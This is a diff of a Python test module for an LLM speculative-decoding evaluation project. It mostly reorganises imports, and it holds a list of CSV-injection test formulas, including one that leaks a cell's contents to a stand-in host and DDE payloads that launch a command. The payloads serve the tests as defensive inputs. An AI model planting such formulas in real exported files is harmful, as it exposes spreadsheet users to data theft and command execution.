@@ -9,7 +9,7 @@ import json
 import pytest
 
 from tests.training.test_evaluate import PROMPTS, _read_csv
-from training.evaluate import EvalResult, SpecDecodeCounts
+from training.eval_result import EvalResult, SpecDecodeCounts
 
 FORMULAS = ['=HYPERLINK("http://host/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 """Prompt categories a spreadsheet runs as formulas when a cell begins with them (CSV injection)."""
@@ -25,7 +25,8 @@ def _prompts(path, categories=None) -> str:
 @pytest.fixture(scope="module")
 def dollar_drafter(oracle_run, tiny_llama, tmp_path_factory) -> str:
     """An MLPSpeculator trained one step on the oracle run, in a folder named `x$_$`."""
-    from training.trainer import TrainDrafterConfig, train_drafter
+    from jobs.train import train_drafter
+    from training.train_config import TrainDrafterConfig
 
     out = tmp_path_factory.mktemp("odd-names") / "x$_$"
     train_drafter(TrainDrafterConfig(run=oracle_run[0], model=tiny_llama, out=str(out), kind="mlp_speculator",
